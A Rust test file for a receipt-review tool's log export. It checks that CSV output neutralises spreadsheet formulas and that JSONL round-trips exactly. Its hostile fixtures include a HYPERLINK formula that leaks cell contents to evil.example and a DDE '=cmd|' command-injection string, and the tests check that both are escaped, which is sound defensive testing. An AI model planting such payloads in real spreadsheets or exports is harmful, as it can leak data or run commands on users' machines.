//! Exporting the review log: CSV that is safe in a spreadsheet, faithful JSONL,
//! and files that are written whole or not at all.

use std::fs;
use std::path::Path;

use proptest::prelude::*;
use receipt_review::review::{
    self, Decision, DecisionRequest, ExportError, ExportFile, ExportFilter, ExportFormat,
    ItemMatch, LogEntry, safe_cell,
};
use receipt_review::storage::Access;
use rusqlite::Connection;
use serde_json::{Value, json};

use crate::common::db::Db;
use crate::support::{T0, request};

const SCHEMA: &str = include_str!(concat!(env!("CARGO_MANIFEST_DIR"), "/assets/schema.sql"));

const HEADER: [&str; 18] = [
    "id",
    "item",
    "kind",
    "decision",
    "operator",
    "decided_at",
    "receipt_ids",
    "note",
    "reopens",
    "state_before",
    "state_after",
    "updated_at_before",
    "updated_at_after",
    "kept",
    "batch",
    "scope",
    "visitor_name",
    "visitor_email",
];

const HOSTILE_NOTES: [&str; 12] = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "+1",
    "-2",
    "@x",
    "\tx",
    "\rx",
    "she said \"hello\", then left",
    "line one\nline two\r\nline three",
    "a,b,,c",
    "同じ内容が二回届きました。返信は一回で。",
    "=1+1,\"=2\"\n@3",
    "",
];

/// A new receipts database at `path`, opened to write. What the test writes
/// itself is not synced to disk (durability is not what these tests are
/// about); the decisions are written as the program writes them.
fn create(path: &Path) -> Db {
    let conn = Connection::open(path).unwrap();
    conn.pragma_update(None, "synchronous", "OFF").unwrap();
    conn.execute_batch(SCHEMA).unwrap();
    drop(conn);
    Db::open(path, Access::PreferWrite).unwrap()
}

/// A database whose log holds every hostile note, a stuck decision with a
/// state change, its undo, and an operator whose name looks like a formula.
fn populated(path: &Path) -> Db {
    let mut conn = create(path);
    conn.conn()
        .execute(
            "INSERT INTO receipts (id, scope, digest, payload, state, created_at) \
             VALUES (-5, 's', 'd', '{}', 'in_flight', '2026-11-29 09:00:00')",
            [],
        )
        .unwrap();
    for (i, note) in HOSTILE_NOTES.iter().enumerate() {
        let id = 100 + i as i64;
        let mut req = request(
            &format!("dup:{id}"),
            Decision::Duplicate,
            "alice",
            &[id, id + 1000],
        );
        req.note = Some(note.to_string());
        req.kept = Some(id + 1000);
        req.now_ms = T0 + i as i64;
        review::decide(&mut conn, &req).unwrap();
    }
    let mut req = request("stuck:-5", Decision::Failed, "-bob", &[]);
    req.note = Some("@checked provider".into());
    review::decide(&mut conn, &req).unwrap();
    review::undo_last(&mut conn, "-bob", T0 + 60_000)
        .unwrap()
        .unwrap();
    review::decide(
        &mut conn,
        &request("conflict:40", Decision::FollowUp, "=carol", &[]),
    )
    .unwrap();
    conn
}

fn opt(v: &Option<String>) -> String {
    v.clone().unwrap_or_default()
}

/// The cells of a row of [`populated`]'s log: only `stuck:-5`'s receipt is
/// in the database (scope `s`, a payload naming no one).
fn expected_cells(e: &LogEntry) -> Vec<String> {
    let scope = if e.item == "stuck:-5" { "s" } else { "" };
    let ids = e
        .receipt_ids
        .iter()
        .map(|i| i.to_string())
        .collect::<Vec<_>>()
        .join(";");
    [
        e.id.to_string(),
        e.item.clone(),
        e.kind.as_str().to_string(),
        e.decision.as_str().to_string(),
        e.operator.clone(),
        e.decided_at.clone(),
        ids,
        opt(&e.note),
        e.reopens.map(|r| r.to_string()).unwrap_or_default(),
        opt(&e.state_before),
        opt(&e.state_after),
        opt(&e.updated_at_before),
        opt(&e.updated_at_after),
        e.kept.map(|r| r.to_string()).unwrap_or_default(),
        e.batch.map(|r| r.to_string()).unwrap_or_default(),
        scope.to_string(),
        String::new(),
        String::new(),
    ]
    .iter()
    .map(|c| safe_cell(c).into_owned())
    .collect()
}

fn parse_csv(bytes: &[u8]) -> (Vec<String>, Vec<Vec<String>>) {
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(true)
        .from_reader(bytes);
    let header = reader
        .headers()
        .unwrap()
        .iter()
        .map(str::to_string)
        .collect();
    let rows = reader
        .records()
        .map(|r| r.unwrap().iter().map(str::to_string).collect())
        .collect();
    (header, rows)
}

fn starts_like_a_formula(cell: &str) -> bool {
    cell.starts_with(['=', '+', '-', '@', '\t', '\r'])
}

#[test]
fn csv_parses_back_to_the_same_values_with_formulas_neutralised() {
    let dir = tempfile::tempdir().unwrap();
    let conn = populated(&dir.path().join("r.db"));
    let log = review::read_log(&conn).unwrap();
    assert_eq!(log.len(), HOSTILE_NOTES.len() + 3);

    let mut out = Vec::new();
    let n = review::export(&conn, ExportFormat::Csv, &mut out).unwrap();
    assert_eq!(n, log.len());
    assert!(out.ends_with(b"\r\n"), "RFC 4180 line ends");

    let (header, rows) = parse_csv(&out);
    assert_eq!(header, HEADER);
    assert_eq!(rows.len(), log.len());
    for (row, entry) in rows.iter().zip(&log) {
        assert_eq!(row, &expected_cells(entry));
        for cell in row {
            assert!(!starts_like_a_formula(cell), "{cell:?}");
        }
    }

    // The hostile notes, exactly as a spreadsheet user will see them.
    let notes: Vec<&str> = rows.iter().map(|r| r[7].as_str()).collect();
    assert_eq!(
        notes[..HOSTILE_NOTES.len()],
        [
            "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
            "'+1",
            "'-2",
            "'@x",
            "'\tx",
            "'\rx",
            "she said \"hello\", then left",
            "line one\nline two\r\nline three",
            "a,b,,c",
            "同じ内容が二回届きました。返信は一回で。",
            "'=1+1,\"=2\"\n@3",
            "",
        ]
    );

    // The stuck decision, its undo, the formula-like operators, the negative id.
    let stuck = &rows[HOSTILE_NOTES.len()];
    assert_eq!(stuck[1], "stuck:-5");
    assert_eq!(stuck[3], "failed");
    assert_eq!(stuck[4], "'-bob");
    assert_eq!(stuck[6], "'-5");
    assert_eq!(stuck[7], "'@checked provider");
    assert_eq!(
        (stuck[9].as_str(), stuck[10].as_str()),
        ("in_flight", "failed")
    );
    let undo = &rows[HOSTILE_NOTES.len() + 1];
    assert_eq!(undo[3], "reopened");
    assert_eq!(undo[8], stuck[0]);
    assert_eq!(
        (undo[9].as_str(), undo[10].as_str()),
        ("failed", "in_flight")
    );
    let conflict = &rows[HOSTILE_NOTES.len() + 2];
    assert_eq!(conflict[4], "'=carol");
    assert_eq!(rows[0][6], "100;1100");
    // The copy each duplicate keeps; none for the others.
    assert_eq!(rows[0][13], "1100");
    assert_eq!((stuck[13].as_str(), conflict[13].as_str()), ("", ""));
}

/// Cells of a CSV export by column name, row by row.
fn by_name(bytes: &[u8], column: &str) -> Vec<String> {
    let mut reader = csv::Reader::from_reader(bytes);
    let at = reader
        .headers()
        .unwrap()
        .iter()
        .position(|h| h == column)
        .unwrap_or_else(|| panic!("no column {column}"));
    reader
        .records()
        .map(|r| r.unwrap()[at].to_string())
        .collect()
}

#[test]
fn kept_and_batch_read_back_from_both_exports() {
    let dir = tempfile::tempdir().unwrap();
    let mut conn = create(&dir.path().join("r.db"));
    // A bulk decision of three groups, each keeping a copy; then one on its own.
    let bulk: Vec<DecisionRequest> = [10, 20, 30]
        .iter()
        .map(|&id| DecisionRequest {
            kept: Some(id + 1),
            ..request(
                &format!("dup:{id}"),
                Decision::Duplicate,
                "aiko",
                &[id, id + 1],
            )
        })
        .collect();
    let written = review::decide_many(&mut conn, &bulk).unwrap();
    assert_eq!(written.batch, Some(1));
    let mut alone = request("dup:40", Decision::Spam, "aiko", &[40, 41]);
    alone.now_ms = T0 + 1;
    review::decide(&mut conn, &alone).unwrap();

    let mut out = Vec::new();
    review::export(&conn, ExportFormat::Csv, &mut out).unwrap();
    assert_eq!(
        by_name(&out, "item"),
        ["dup:10", "dup:20", "dup:30", "dup:40"]
    );
    assert_eq!(by_name(&out, "kept"), ["11", "21", "31", ""]);
    assert_eq!(by_name(&out, "batch"), ["1", "1", "1", ""]);

    let mut out = Vec::new();
    review::export(&conn, ExportFormat::Jsonl, &mut out).unwrap();
    let rows: Vec<Value> = String::from_utf8(out)
        .unwrap()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    let kept: Vec<&Value> = rows.iter().map(|r| &r["kept"]).collect();
    assert_eq!(kept, [&json!(11), &json!(21), &json!(31), &Value::Null]);
    let batch: Vec<&Value> = rows.iter().map(|r| &r["batch"]).collect();
    assert_eq!(batch, [&json!(1), &json!(1), &json!(1), &Value::Null]);
}

#[test]
fn jsonl_round_trips_exactly() {
    let dir = tempfile::tempdir().unwrap();
    let conn = populated(&dir.path().join("r.db"));
    let log = review::read_log(&conn).unwrap();

    let mut out = Vec::new();
    review::export(&conn, ExportFormat::Jsonl, &mut out).unwrap();
    let text = String::from_utf8(out).unwrap();
    assert!(text.ends_with('\n'));
    let lines: Vec<&str> = text.split_terminator('\n').collect();
    assert_eq!(lines.len(), log.len());

    for (line, entry) in lines.iter().zip(&log) {
        let v: Value = serde_json::from_str(line).unwrap();
        let obj = v.as_object().unwrap();
        assert_eq!(
            obj.keys().map(String::as_str).collect::<Vec<_>>().len(),
            HEADER.len()
        );
        for key in HEADER {
            assert!(obj.contains_key(key), "{key} in {line}");
        }
        assert_eq!(v["id"], json!(entry.id));
        assert_eq!(v["item"], json!(entry.item));
        assert_eq!(v["kind"], json!(entry.kind.as_str()));
        assert_eq!(v["decision"], json!(entry.decision.as_str()));
        assert_eq!(v["operator"], json!(entry.operator));
        assert_eq!(v["decided_at"], json!(entry.decided_at));
        assert_eq!(v["receipt_ids"], json!(entry.receipt_ids));
        assert_eq!(v["note"], json!(entry.note));
        assert_eq!(v["reopens"], json!(entry.reopens));
        assert_eq!(v["state_before"], json!(entry.state_before));
        assert_eq!(v["state_after"], json!(entry.state_after));
        assert_eq!(v["kept"], json!(entry.kept));
        assert_eq!(v["batch"], json!(entry.batch));
    }

    // Notes come back exactly (no spreadsheet quoting); an empty note is null.
    let notes: Vec<Value> = lines
        .iter()
        .take(HOSTILE_NOTES.len())
        .map(|l| serde_json::from_str::<Value>(l).unwrap()["note"].clone())
        .collect();
    for (note, original) in notes.iter().zip(HOSTILE_NOTES) {
        if original.is_empty() {
            assert_eq!(note, &Value::Null);
        } else {
            assert_eq!(note, &json!(original));
        }
    }
    let first: Value = serde_json::from_str(lines[0]).unwrap();
    assert_eq!(first["receipt_ids"], json!([100, 1100]));
    let undo: Value = serde_json::from_str(lines[HOSTILE_NOTES.len() + 1]).unwrap();
    assert_eq!(undo["decision"], "reopened");
    assert!(undo["reopens"].is_i64());
    let conflict: Value = serde_json::from_str(lines[HOSTILE_NOTES.len() + 2]).unwrap();
    assert_eq!(conflict["note"], Value::Null);
    assert_eq!(conflict["operator"], "=carol");
}

#[test]
fn a_database_without_a_log_exports_a_header_alone() {
    let dir = tempfile::tempdir().unwrap();
    let conn = create(&dir.path().join("r.db"));
    let mut out = Vec::new();
    assert_eq!(
        review::export(&conn, ExportFormat::Csv, &mut out).unwrap(),
        0
    );
    assert_eq!(
        String::from_utf8(out).unwrap(),
        format!("{}\r\n", HEADER.join(","))
    );
    assert!(!review::log_exists(&conn).unwrap());
}

/// A log about receipts that name their visitors: in Japanese, with
/// formulas, not at all, and one whose receipt is gone.
fn with_visitors(path: &Path) -> Db {
    let mut conn = create(path);
    let receipts = [
        (
            1,
            "corp/contact",
            r#"{"お名前":"田中 愛子","メールアドレス":"Aiko.Tanaka@Example.jp","message":"見積もりをお願いします"}"#,
            "completed",
        ),
        (
            2,
            "corp/contact",
            r#"{"お名前":"田中 愛子","メールアドレス":"Aiko.Tanaka@Example.jp","message":"見積もりをお願いします"}"#,
            "completed",
        ),
        (
            3,
            "=cmd|' /C calc'!A0",
            r#"{"name":"=HYPERLINK(\"http://evil.example/\",\"click\")","email":"+evil@example.com"}"#,
            "completed",
        ),
        (
            4,
            "shop/order",
            r#"{"message":"no name here"}"#,
            "in_flight",
        ),
    ];
    for (id, scope, payload, state) in receipts {
        conn.conn()
            .execute(
                "INSERT INTO receipts (id, scope, digest, payload, state, created_at) \
                 VALUES (?1, ?2, 'd', ?3, ?4, '2026-11-29 09:00:00')",
                rusqlite::params![id, scope, payload, state],
            )
            .unwrap();
    }
    const DAY: i64 = 86_400_000;
    for (item, decision, operator, ids, at) in [
        ("dup:1", Decision::Duplicate, "aiko", &[1, 2][..], T0),
        ("conflict:3", Decision::FollowUp, "bob", &[3][..], T0 + DAY),
        (
            "stuck:4",
            Decision::StillPending,
            "aiko",
            &[4][..],
            T0 + 2 * DAY,
        ),
        ("dup:9", Decision::Spam, "carol", &[9, 10][..], T0 + 3 * DAY),
    ] {
        let mut req = request(item, decision, operator, ids);
        req.now_ms = at;
        review::decide(&mut conn, &req).unwrap();
    }
    conn
}

fn export_rows(conn: &Db, filter: &ExportFilter) -> Vec<Vec<String>> {
    let mut out = Vec::new();
    review::export_with(conn, ExportFile::CSV, filter, &mut out).unwrap();
    let (header, rows) = parse_csv(&out);
    assert_eq!(header, HEADER);
    rows
}

#[test]
fn csv_names_the_scope_and_the_visitor_as_typed_and_guards_their_formulas() {
    let dir = tempfile::tempdir().unwrap();
    let conn = with_visitors(&dir.path().join("r.db"));
    let rows = export_rows(&conn, &ExportFilter::default());
    let who: Vec<[&str; 4]> = rows
        .iter()
        .map(|r| {
            [
                r[1].as_str(),
                r[15].as_str(),
                r[16].as_str(),
                r[17].as_str(),
            ]
        })
        .collect();
    assert_eq!(
        who,
        [
            [
                "dup:1",
                "corp/contact",
                "田中 愛子",
                "Aiko.Tanaka@Example.jp"
            ],
            [
                "conflict:3",
                "'=cmd|' /C calc'!A0",
                "'=HYPERLINK(\"http://evil.example/\",\"click\")",
                "'+evil@example.com"
            ],
            ["stuck:4", "shop/order", "", ""],
            // Its receipts are gone: nothing to name.
            ["dup:9", "", "", ""],
        ]
    );
    for cell in rows.iter().flatten() {
        assert!(!starts_like_a_formula(cell), "{cell:?}");
    }
    assert_eq!(
        review::unquote_cell(&rows[1][16]),
        "=HYPERLINK(\"http://evil.example/\",\"click\")"
    );
}

#[test]
fn jsonl_names_the_visitor_exactly_and_null_when_unknown() {
    let dir = tempfile::tempdir().unwrap();
    let conn = with_visitors(&dir.path().join("r.db"));
    let mut out = Vec::new();
    review::export_with(&conn, ExportFile::JSONL, &ExportFilter::default(), &mut out).unwrap();
    let lines: Vec<Value> = String::from_utf8(out)
        .unwrap()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(lines.len(), 4);
    assert_eq!(lines[0]["scope"], "corp/contact");
    assert_eq!(lines[0]["visitor_name"], "田中 愛子");
    assert_eq!(lines[0]["visitor_email"], "Aiko.Tanaka@Example.jp");
    assert_eq!(
        lines[1]["visitor_name"],
        "=HYPERLINK(\"http://evil.example/\",\"click\")"
    );
    assert_eq!(lines[2]["visitor_name"], Value::Null);
    assert_eq!(lines[3]["scope"], Value::Null);
    assert_eq!(lines[3]["visitor_email"], Value::Null);
}

#[test]
fn a_csv_for_excel_starts_with_a_bom_and_is_otherwise_the_same() {
    let dir = tempfile::tempdir().unwrap();
    let conn = with_visitors(&dir.path().join("r.db"));
    let all = ExportFilter::default();
    let mut plain = Vec::new();
    review::export_with(&conn, ExportFile::CSV, &all, &mut plain).unwrap();
    let mut excel = Vec::new();
    review::export_with(&conn, ExportFile::EXCEL_CSV, &all, &mut excel).unwrap();
    assert_eq!(excel[..3], [0xEF, 0xBB, 0xBF]);
    assert_eq!(excel[3..], plain[..]);
    assert!(plain.starts_with(b"id,"), "no BOM unless asked for");
    let (header, rows) = parse_csv(&excel);
    assert_eq!(header, HEADER, "a CSV reader skips the BOM");
    assert_eq!(rows[0][16], "田中 愛子");

    // Written to a file, whole.
    let target = dir.path().join("log.csv");
    review::export_to_file_with(&conn, ExportFile::EXCEL_CSV, &all, &target).unwrap();
    assert_eq!(fs::read(&target).unwrap(), excel);
}

#[test]
fn filters_keep_the_rows_of_a_span_an_operator_and_items() {
    let dir = tempfile::tempdir().unwrap();
    let conn = with_visitors(&dir.path().join("r.db"));
    const DAY: i64 = 86_400_000;
    let items = |f: ExportFilter| -> Vec<String> {
        export_rows(&conn, &f)
            .into_iter()
            .map(|r| r[1].clone())
            .collect()
    };
    let all = ExportFilter::default();
    assert_eq!(
        items(all.clone()),
        ["dup:1", "conflict:3", "stuck:4", "dup:9"]
    );
    let span = ExportFilter {
        since_ms: Some(T0 + DAY),
        until_ms: Some(T0 + 3 * DAY),
        ..all.clone()
    };
    assert_eq!(items(span), ["conflict:3", "stuck:4"]);
    let aiko = ExportFilter {
        operators: vec!["aiko".into()],
        ..all.clone()
    };
    assert_eq!(items(aiko), ["dup:1", "stuck:4"]);
    let dups = ExportFilter {
        items: vec![ItemMatch::parse("dup:").unwrap()],
        ..all.clone()
    };
    assert_eq!(items(dups), ["dup:1", "dup:9"]);
    let two = ExportFilter {
        items: vec![
            ItemMatch::parse("stuck:4").unwrap(),
            ItemMatch::parse("dup:9").unwrap(),
        ],
        operators: vec!["carol".into(), "aiko".into()],
        ..all.clone()
    };
    assert_eq!(items(two), ["stuck:4", "dup:9"]);
    let nobody = ExportFilter {
        operators: vec!["nobody".into()],
        ..all
    };
    let mut out = Vec::new();
    assert_eq!(
        review::export_with(&conn, ExportFile::CSV, &nobody, &mut out).unwrap(),
        0
    );
    assert_eq!(
        String::from_utf8(out).unwrap(),
        format!("{}\r\n", HEADER.join(","))
    );
}

fn dir_entries(dir: &Path) -> Vec<String> {
    let mut names: Vec<String> = fs::read_dir(dir)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    names.sort();
    names
}

#[test]
fn export_to_file_replaces_the_file_whole() {
    let dir = tempfile::tempdir().unwrap();
    let conn = populated(&dir.path().join("r.db"));
    let out_dir = tempfile::tempdir().unwrap();
    let target = out_dir.path().join("log.csv");
    fs::write(&target, "old contents").unwrap();

    let n = review::export_to_file(&conn, ExportFormat::Csv, &target).unwrap();
    assert_eq!(n, HOSTILE_NOTES.len() + 3);
    let mut expected = Vec::new();
    review::export(&conn, ExportFormat::Csv, &mut expected).unwrap();
    assert_eq!(fs::read(&target).unwrap(), expected);

    let jsonl = out_dir.path().join("log.jsonl");
    review::export_to_file(&conn, ExportFormat::Jsonl, &jsonl).unwrap();
    assert_eq!(dir_entries(out_dir.path()), ["log.csv", "log.jsonl"]);
}

#[cfg(unix)]
#[test]
fn an_exported_file_gets_the_mode_of_any_new_file() {
    use std::os::unix::fs::PermissionsExt;

    let dir = tempfile::tempdir().unwrap();
    let conn = populated(&dir.path().join("r.db"));
    let out_dir = tempfile::tempdir().unwrap();
    let plain = out_dir.path().join("plain.txt");
    fs::write(&plain, "x").unwrap();
    let target = out_dir.path().join("log.csv");
    review::export_to_file(&conn, ExportFormat::Csv, &target).unwrap();
    // Not the owner-only mode of a temporary file: the user's umask decides.
    let mode = |p: &Path| fs::metadata(p).unwrap().permissions().mode() & 0o777;
    assert_eq!(mode(&target), mode(&plain));
}

#[test]
fn export_into_a_folder_that_cannot_be_written_fails_and_leaves_nothing() {
    let dir = tempfile::tempdir().unwrap();
    let conn = populated(&dir.path().join("r.db"));
    let before = dir_entries(dir.path());

    // A folder that does not exist.
    let missing = dir.path().join("no-such-folder").join("log.csv");
    let err = review::export_to_file(&conn, ExportFormat::Csv, &missing).unwrap_err();
    assert!(matches!(err, ExportError::Folder { .. }), "{err:?}");
    assert!(err.to_string().contains("no-such-folder"), "{err}");
    assert!(!missing.exists());

    // A "folder" that is a file.
    let file = dir.path().join("plain-file");
    fs::write(&file, "x").unwrap();
    let err =
        review::export_to_file(&conn, ExportFormat::Jsonl, &file.join("log.jsonl")).unwrap_err();
    assert!(matches!(err, ExportError::Folder { .. }), "{err:?}");

    // A target that is a folder: the rename fails, the temporary file goes.
    let taken = dir.path().join("taken");
    fs::create_dir(&taken).unwrap();
    let err = review::export_to_file(&conn, ExportFormat::Csv, &taken).unwrap_err();
    assert!(matches!(err, ExportError::Write { .. }), "{err:?}");
    assert!(taken.is_dir());

    let mut after = before.clone();
    after.extend(["plain-file".to_string(), "taken".to_string()]);
    after.sort();
    assert_eq!(dir_entries(dir.path()), after);
}

#[cfg(unix)]
#[test]
fn export_into_a_read_only_folder_fails_and_leaves_nothing() {
    use std::os::unix::fs::PermissionsExt;

    let dir = tempfile::tempdir().unwrap();
    let conn = populated(&dir.path().join("r.db"));
    let locked = dir.path().join("locked");
    fs::create_dir(&locked).unwrap();
    fs::set_permissions(&locked, fs::Permissions::from_mode(0o555)).unwrap();
    // Permission bits do not bind a privileged user; then there is nothing to test.
    let probe = locked.join("probe");
    if fs::write(&probe, "x").is_ok() {
        fs::remove_file(&probe).unwrap();
        fs::set_permissions(&locked, fs::Permissions::from_mode(0o755)).unwrap();
        return;
    }
    let err =
        review::export_to_file(&conn, ExportFormat::Csv, &locked.join("log.csv")).unwrap_err();
    assert!(matches!(err, ExportError::Folder { .. }), "{err:?}");
    assert!(dir_entries(&locked).is_empty());
    fs::set_permissions(&locked, fs::Permissions::from_mode(0o755)).unwrap();
}

fn note_strategy() -> impl Strategy<Value = String> {
    let lead = prop_oneof![
        Just(String::new()),
        Just("=".to_string()),
        Just("+".to_string()),
        Just("-".to_string()),
        Just("@".to_string()),
        Just("\t".to_string()),
        Just("\r".to_string()),
        Just("'".to_string()),
        Just("\"".to_string()),
        Just("\n".to_string()),
    ];
    (lead, any::<String>(), "[=+@\\-\t\r\n\",' a-zあ-ん]{0,12}")
        .prop_map(|(lead, any, structured)| format!("{lead}{structured}{any}"))
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(200))]

    #[test]
    fn any_note_round_trips_through_csv_and_never_starts_a_formula(
        note in note_strategy(),
        operator in "[-=+@a-z]{1,8}",
    ) {
        let dir = tempfile::tempdir().unwrap();
        let mut conn = create(&dir.path().join("r.db"));
        let mut req = request("dup:1", Decision::Distinct, &operator, &[1, 2]);
        req.note = Some(note.clone());
        review::decide(&mut conn, &req).unwrap();

        let mut out = Vec::new();
        review::export(&conn, ExportFormat::Csv, &mut out).unwrap();
        let (header, rows) = parse_csv(&out);
        prop_assert_eq!(header, HEADER);
        prop_assert_eq!(rows.len(), 1);
        let cell = &rows[0][7];
        if starts_like_a_formula(note.trim_start_matches('\'')) {
            prop_assert_eq!(cell, &format!("'{note}"));
        } else {
            prop_assert_eq!(cell, &note);
        }
        prop_assert_eq!(review::unquote_cell(cell), note.as_str());
        for cell in &rows[0] {
            prop_assert!(!starts_like_a_formula(cell), "{:?}", cell);
        }

        let mut out = Vec::new();
        review::export(&conn, ExportFormat::Jsonl, &mut out).unwrap();
        let v: Value = serde_json::from_slice(&out).unwrap();
        if note.is_empty() {
            prop_assert_eq!(&v["note"], &Value::Null);
        } else {
            prop_assert_eq!(&v["note"], &json!(note));
        }
    }
}
